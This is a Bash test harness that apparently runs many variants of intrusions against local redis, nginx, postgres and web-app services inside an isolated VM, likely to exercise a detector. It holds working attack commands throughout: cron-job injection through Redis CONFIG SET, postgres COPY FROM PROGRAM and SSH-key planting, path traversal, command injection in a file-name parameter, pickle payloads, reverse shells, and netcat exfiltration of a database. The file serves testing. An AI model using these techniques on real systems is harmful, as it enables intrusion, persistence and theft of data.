# SPDX-License-Identifier: GPL-2.0
# The attacks, each in more than one variant. Sourced in the guest.
#
# All of them stay in this virtual machine: the only network is loopback. They come in through
# the services' own holes, and each one's function fails unless the attack did its work.

UPLOAD=/opt/upload
declare -A LOOT_PORT=([redis]=9901 [nginx]=9902 [postgres]=9903 [webapp]=9904)
declare -A SHELL_PORT=([redis]=4401 [nginx]=4402 [postgres]=4403 [webapp]=4404)
# A limit for what hangs.
ATTACK_SECONDS=60

# service | attack | variant | after it the service is started afresh | how
INTRUSIONS='redis|job by CONFIG SET|at once||redis_job 0 save
redis|job by CONFIG SET|slow, as a background save||redis_job 3 bgsave
redis|survey by module|at once|restart|survey redis 0
redis|survey by module|slow, padded with pings|restart|survey redis 1 redis-cli ping
redis|files searched in process|at once|restart|redis_search 0
redis|files searched in process|padded 50 to 1|restart|redis_search 50
redis|ports scanned in process|at once|restart|redis_scan 1024 0 0
redis|ports scanned in process|slow, padded|restart|redis_scan 32 0.2 20
redis|miner by module|four threads|restart|miner redis
redis|miner by module|in spells, under the name of the service|restart|spells redis redis-server
redis|ptrace injection|reads passwd|restart|inject /etc/passwd
redis|ptrace injection|reads the configuration|restart|inject /etc/redis/demo.conf
redis|database stolen|by replication||redis_replica
redis|database stolen|slow, key by key||redis_keys
nginx|survey by web shell|at once||survey nginx 0
nginx|survey by web shell|slow, padded with requests||survey nginx 1 curl -s http://127.0.0.1/health
nginx|reverse shell|bash||reverse nginx 0 reverse-shell.sh
nginx|reverse shell|netcat, typed slowly||reverse nginx 1.5 reverse-fifo.sh
nginx|processes read in worker|at once|restart|nginx_processes 400 0
nginx|processes read in worker|slow, among requests|restart|nginx_processes 10 0.5
nginx|container escape|as the worker, at once||escape_program nginx
nginx|container escape|shell, slow||escape_shell nginx 1
nginx|page defaced|by a shell||nginx_deface shell
nginx|page defaced|in worker|restart|nginx_deface worker
nginx|ports scanned|by a program||nginx_scan_program
nginx|ports scanned|in worker, slow|restart|nginx_scan_worker
nginx|files planted|at once||persist nginx 0
nginx|files planted|slow||persist nginx 3
postgres|survey by COPY PROGRAM|at once||survey postgres 0
postgres|survey by COPY PROGRAM|slow, padded with checks||survey postgres 1 pg_isready -h 127.0.0.1
postgres|files read by SQL|at once||postgres_read 0
postgres|files read by SQL|slow, among queries||postgres_read 1
postgres|key planted by SQL|lo_export||postgres_key at-once
postgres|key planted by SQL|slow, in parts||postgres_key slow
postgres|library loaded|runs a shell||postgres_library_shell
postgres|library loaded|scans ports in process||postgres_library "turn_scan(1, 1024, 0)"
postgres|files searched in process|at once||postgres_library "turn_search($$/usr/share$$, 0)"
postgres|files searched in process|padded 50 to 1||postgres_library "turn_search($$/usr/share$$, 50)"
postgres|reverse shell|bash||reverse postgres 0 reverse-shell.sh
postgres|reverse shell|netcat, typed slowly||reverse postgres 1.5 reverse-fifo.sh
postgres|miner|four threads||miner postgres
postgres|miner|in spells, under the name of the service||spells postgres postgres
postgres|database stolen|dump||postgres_dump
postgres|database stolen|slow, page by page||postgres_pages
webapp|survey by injection|at once||survey webapp 0
webapp|survey by injection|slow, padded with requests||survey webapp 1 curl -s http://127.0.0.1:8080/health
webapp|path traversal|at once||webapp_traverse 0
webapp|path traversal|slow, among requests||webapp_traverse 1
webapp|files searched in process|at once|restart|webapp_run template search.py WHERE=/usr/share LIMIT=800 PADDING=0 PAUSE=0
webapp|files searched in process|slow, padded|restart|webapp_run template search.py WHERE=/usr/share LIMIT=80 PADDING=5 PAUSE=0.1
webapp|ports scanned in process|at once|restart|webapp_run template scan.py FIRST=1 LAST=512 PADDING=0 PAUSE=0
webapp|ports scanned in process|slow, padded|restart|webapp_run pickle scan.py FIRST=6350 LAST=6400 PADDING=5 PAUSE=0.2
webapp|reverse shell|bash, by pickle|restart|webapp_reverse outside 0
webapp|reverse shell|inside Python, typed slowly|restart|webapp_reverse inside 1.5
webapp|miner in process|without rest|restart|webapp_run pickle mine.py WORK=1 REST=0 ROUNDS=6
webapp|miner in process|one second in four|restart|webapp_run pickle mine.py WORK=0.5 REST=1.5 ROUNDS=5
webapp|database sent away|netcat||webapp_netcat 0
webapp|database sent away|netcat, in pieces||webapp_netcat 1
webapp|database sent away|in process, in pieces|restart|webapp_run template exfiltrate.py FILE=/srv/data/shop.db PIECE=1000 PAUSE=0.7
webapp|programs of root sought|at once||suid webapp 0
webapp|programs of root sought|slow||suid webapp 2
webapp|log wiped|at once||wipe webapp 0
webapp|log wiped|slow||wipe webapp 3'
INTRUSIONS=${INTRUSIONS//\$\$/\'}

# Somebody who takes what is sent, outside the containers.
start_listeners() {
	local name

	for name in $CONTAINERS; do
		busybox nc -ll -p "${LOOT_PORT[$name]}" -e busybox sh -c "cat >>/tmp/loot.$name" &
		await 30 nc -z 127.0.0.1 "${LOOT_PORT[$name]}" || return 1
	done
}

# loot NAME PATTERN: whether the attack brought it in
loot() {
	grep -aqE "$2" "$(within "$1" /tmp/loot)"
}

# sent NAME BYTES: whether the listener of this service got as much
sent() {
	[ "$(stat -c %s "/tmp/loot.$1" 2>/dev/null || echo 0)" -ge "$2" ]
}

# Each service's way to a shell. COMMAND holds no single quotes.
shell_redis() {
	redis_module
	redis-cli turn.shell "setsid sh -c '$1' </dev/null >/dev/null 2>&1 &"
}

shell_nginx() {
	curl -s -G --data-urlencode "cmd=setsid sh -c '$1' </dev/null >/dev/null 2>&1 &" \
		http://127.0.0.1/cgi
}

shell_postgres() {
	sql -c 'create temp table loot(line text)' -c "copy loot from program \$\$$1\$\$"
}

shell_webapp() {
	curl -s -G --data-urlencode "name=5000.txt >/dev/null; $1" "$SHOP/archive" >/dev/null
}

# by NAME COMMAND: through the service's hole; returns when the command is over
by() {
	local over=/tmp/over.$BASHPID.$RANDOM

	"shell_$1" "cd $UPLOAD; ($2) >/tmp/loot 2>&1 </dev/null; touch $over"
	await "$ATTACK_SECONDS" test -e "$(within "$1" "$over")"
}

survey() {
	local name=$1

	shift
	by "$name" "./survey.sh $*"
	loot "$name" '^root:x:0' && loot "$name" '^== ls -laR'
}

persist() {
	by "$1" "./persist.sh $2"
	loot "$1" '^ssh-ed25519 .* intruder' && [ -u "$(within "$1" /tmp/.x)" ]
}

suid() {
	by "$1" "./suid.sh $2"
	loot "$1" '/bin/su$'
}

wipe() {
	by "$1" "./wipe.sh $2 /srv/data/access.log"
	[ -L "$(within "$1" /tmp/.bash_history)" ]
}

miner() {
	by "$1" "./miner ${LOOT_PORT[$1]} 20"
	await 20 grep -q submit "/tmp/loot.$1"
}

spells() {
	by "$1" "./spells.sh $2 ${LOOT_PORT[$1]} 4"
	await 20 grep -q submit "/tmp/loot.$1"
}

escape_program() {
	by "$1" ./escape
	loot "$1" .
}

escape_shell() {
	by "$1" "./escape.sh $2"
	loot "$1" '^CapEff'
}

# reverse NAME PAUSE PROGRAM
reverse() {
	typed "/tmp/shell.$1" "${SHELL_PORT[$1]}" "$2" id 'uname -a' 'cat /etc/passwd' 'ls -la / /root /tmp' env \
		'find /etc -name "*.conf" | head' 'cat /proc/mounts' exit
	by "$1" "./$3 ${SHELL_PORT[$1]}"
	await 20 grep -q 'root:x:0' "/tmp/shell.$1"
}

redis_job() {
	local job

	for command in 'config set dir /var/spool/cron/crontabs' 'config set dbfilename root' \
		"set job \$'\n\n* * * * * root sh /tmp/.x\n\n'"; do
		eval "redis-cli $command"
		sleep "$1"
	done
	redis_save "$2"
	await 20 saved
	redis-cli config set dir /data
	redis-cli config set dbfilename dump.rdb
	redis-cli del job
	job=$(within redis /var/spool/cron/crontabs/root)
	grep -aq 'sh /tmp/.x' "$job"
}

redis_search() {
	redis_module
	[ "$(redis-cli turn.search /usr/share "$1")" -gt 500 ]
}

# redis_scan PORTS PAUSE PADDING: so many at a time
redis_scan() {
	local first found=0

	redis_module
	for ((first = 6001; first <= 7024; first += $1)); do
		found=$((found + $(redis-cli turn.scan "$first" $((first + $1 - 1)) "$3")))
		sleep "$2"
	done
	[ "$found" -ge 1 ]
}

inject() {
	inside redis 100:101 "$UPLOAD/inject" redis-server "$1" "${LOOT_PORT[redis]}"
	await 30 sent redis 100
}

redis_replica() {
	local copy=/tmp/copy.rdb

	rm -f "$copy"
	timeout $((40 * PATIENCE)) redis-cli --rdb "$copy"
	[ "$(stat -c %s "$copy")" -gt 100 ]
}

redis_keys() {
	local key seen=0

	# The load may just have emptied the database.
	# shellcheck disable=SC2046
	redis-cli mset $(printf 'secret:%d x ' {1..30})
	while read -r key; do
		redis-cli dump "$key" >>/tmp/keys && seen=$((seen + 1))
		sleep 0.3
	done < <(redis-cli --scan --pattern 'secret:*' | head -n 25)
	[ "$seen" -gt 5 ]
}

# nginx_processes NUMBER PAUSE: so many process numbers at a time
nginx_processes() {
	local first

	for ((first = 1; first <= 200; first += $1)); do
		curl -s "http://127.0.0.1/cgi?port=${LOOT_PORT[nginx]}&first=$first&last=$((first + $1 - 1))"
		curl -s -o /dev/null http://127.0.0.1/10000.txt
		sleep "$2"
	done
	await 30 sent nginx 1000
}

nginx_lua() {
	curl -s -G --data-urlencode "lua=$1" http://127.0.0.1/cgi
}

nginx_deface() {
	local page done=1

	page=$(within nginx /var/www/demo/template.html)
	cp "$page" /tmp/template.html
	case $1 in
	shell) by nginx 'sed s/NAME/DEFACED/ /var/www/demo/template.html >/tmp/p; cat /tmp/p >/var/www/demo/template.html; rm /tmp/p' ;;
	worker)
		nginx_lua 'local f = io.open("/var/www/demo/template.html", "r+") local t = f:read("*a")
			f:seek("set") f:write((t:gsub("NAME", "DEFACED"))) f:close() return 1' ;;
	esac
	! curl -s http://127.0.0.1/app | grep -q DEFACED || done=0
	cat /tmp/template.html >"$page"
	return $done
}

nginx_scan_program() {
	by nginx ./port-scan
	loot nginx '^open 80'
}

nginx_scan_worker() {
	local first found=0

	for ((first = 70; first < 330; first += 20)); do
		found=$((found + $(nginx_lua "local n = 0 for p = $first, $((first + 19)) do
			local s = ngx.socket.tcp() s:settimeout(200)
			if s:connect('127.0.0.1', p) then n = n + 1 end s:close() end return n")))
		sleep 0.4
	done
	[ "$found" -ge 1 ]
}

# postgres_read PAUSE: between two files, an innocent query
postgres_read() {
	local file

	for file in /etc/passwd /etc/group /etc/hosts /proc/self/environ /proc/1/cmdline \
		/proc/mounts /etc/fstab "$DATABASE/pg_hba.conf" "$DATABASE/postgresql.conf"; do
		sql -c "select pg_read_file('$file', 0, 4000)" >>/tmp/read.postgres
		[ "$1" = 0 ] || sql -c 'select count(*) from customer'
		sleep "$1"
	done
	sql -c 'create temp table loot(line text)' -c "copy loot from '/etc/passwd'" \
		-c 'select * from loot' >>/tmp/read.postgres
	sql -c "select pg_ls_dir('/')" >>/tmp/read.postgres
	[ "$(grep -c '^root:x:0' /tmp/read.postgres)" -ge 2 ]
}

postgres_key() {
	local key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKanary intruder' file id

	file=/var/lib/postgresql/.ssh/authorized_keys
	case $1 in
	at-once)
		sql -c "select lo_from_bytea(4711, '$key')" -c "select lo_export(4711, '$file')" \
			-c 'select lo_unlink(4711)' ;;
	slow)
		id=$(sql -c 'select lo_create(0)')
		sleep 3
		sql -c "select lo_put($id, 0, '${key:0:20}')"
		sleep 3
		sql -c "select lo_put($id, 20, '${key:20}')"
		sleep 3
		sql -c "select lo_export($id, '$file')"
		sql -c "select lo_unlink($id)" ;;
	esac
	grep -q intruder "$(within postgres "$file")"
}

UDF="create or replace function turn_shell(cstring) returns int as '$UPLOAD/udf' language c;
create or replace function turn_search(cstring, int) returns int as '$UPLOAD/udf' language c;
create or replace function turn_scan(int, int, int) returns int as '$UPLOAD/udf' language c"

# postgres_library CALL
postgres_library() {
	[ "$(sql -c "$UDF" -c "select $1" | tail -n 1)" -ge 1 ]
}

postgres_library_shell() {
	sql -c "$UDF" -c "select turn_shell('$UPLOAD/survey.sh 0 >/tmp/loot 2>&1')"
	loot postgres '^root:x:0'
}

postgres_dump() {
	pg_dump -h 127.0.0.1 -U postgres shop >/tmp/dump.sql
	grep -q 'COPY public.customer' /tmp/dump.sql
}

postgres_pages() {
	local page seen=0

	for page in $(seq 0 24); do
		seen=$((seen + $(sql -c "select * from customer where id between $((page * 100)) and $((page * 100 + 99))" | wc -l)))
		sleep 0.4
	done
	[ "$seen" -gt 2000 ]
}

# webapp_traverse PAUSE
webapp_traverse() {
	local file

	for file in etc/passwd etc/group etc/hosts proc/self/environ proc/self/maps proc/1/cmdline \
		proc/mounts srv/webapp.py srv/data/shop.db srv/data/access.log etc/nginx/nginx.conf \
		etc/fstab; do
		curl -s --path-as-is "$SHOP/static/../../../$file" >>/tmp/read.webapp
		[ "$1" = 0 ] || curl -s -o /dev/null "$SHOP/" "$SHOP/item?id=5" "$SHOP/static/100.txt"
		sleep "$1"
	done
	grep -aq '^root:x:0' /tmp/read.webapp
}

# webapp_send HOLE FILE NAME=VALUE...: code for the application's own process
webapp_send() {
	local payload

	payload=$(python3 attacks/payload.py "$1" "attacks/$2" "${@:3}")
	case $1 in
	template) curl -s -G --max-time $((60 * PATIENCE)) --data-urlencode "text=$payload" "$SHOP/hello" ;;
	pickle) curl -s --max-time $((60 * PATIENCE)) -H "Cookie: session=$payload" "$SHOP/account" ;;
	esac
}

# webapp_run HOLE FILE NAME=VALUE...: and wait for what it brings in
webapp_run() {
	webapp_send "$@" "PORT=${LOOT_PORT[webapp]}"
	await "$ATTACK_SECONDS" loot webapp '^(files|mined|sent|open) [1-9]'
}

# webapp_reverse HOW PAUSE
webapp_reverse() {
	if [ "$1" = inside ]; then
		typed /tmp/shell.webapp "${SHELL_PORT[webapp]}" "$2" 'os.getuid()' 'os.listdir("/")' 'open("/etc/passwd").read()' \
			'os.environ' 'open("/proc/mounts").read()' 'os.listdir("/srv/data")' exit
	else
		typed /tmp/shell.webapp "${SHELL_PORT[webapp]}" "$2" id 'cat /etc/passwd' 'ls -la / /root /tmp' env exit
	fi
	webapp_send pickle shell.py "HOW=$1" "PORT=${SHELL_PORT[webapp]}"
	await 60 eval "! listening ${SHELL_PORT[webapp]} && ! pgrep -f 'nc -l -p ${SHELL_PORT[webapp]}'" \
		>/dev/null
	grep -q 'root:x:0' /tmp/shell.webapp
}

webapp_netcat() {
	by webapp "./exfiltrate.sh ${LOOT_PORT[webapp]} $1 /srv/data/shop.db"
	await 30 sent webapp 4000
}
